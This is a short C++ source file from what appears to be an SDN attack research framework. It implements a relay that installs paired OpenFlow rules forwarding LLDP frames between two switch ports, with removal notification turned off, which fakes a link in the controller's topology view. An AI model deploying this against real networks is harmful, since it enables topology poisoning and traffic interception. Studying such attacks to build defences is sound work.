#include "attack/flow_rule_relay.hpp"

namespace tmg::attack {

FlowRuleRelay::FlowRuleRelay(of::ControlChannel& channel, Config config)
    : channel_{channel}, config_{config} {}

void FlowRuleRelay::send(of::FlowMod::Command command, of::PortNo in_port,
                         of::PortNo out_port) {
  of::FlowMod fm;
  fm.command = command;
  fm.cookie = config_.cookie;
  fm.match.in_port = in_port;
  fm.match.ethertype = net::EtherType::Lldp;
  fm.action = of::FlowAction::output(out_port);
  fm.priority = config_.priority;
  fm.notify_on_removal = false;
  channel_.to_switch(fm);
}

void FlowRuleRelay::start() {
  if (active_) return;
  active_ = true;
  send(of::FlowMod::Command::Add, config_.left_port, config_.right_port);
  send(of::FlowMod::Command::Add, config_.right_port, config_.left_port);
}

void FlowRuleRelay::stop() {
  if (!active_) return;
  active_ = false;
  send(of::FlowMod::Command::DeleteMatching, config_.left_port,
       config_.right_port);
  send(of::FlowMod::Command::DeleteMatching, config_.right_port,
       config_.left_port);
}

}  // namespace tmg::attack
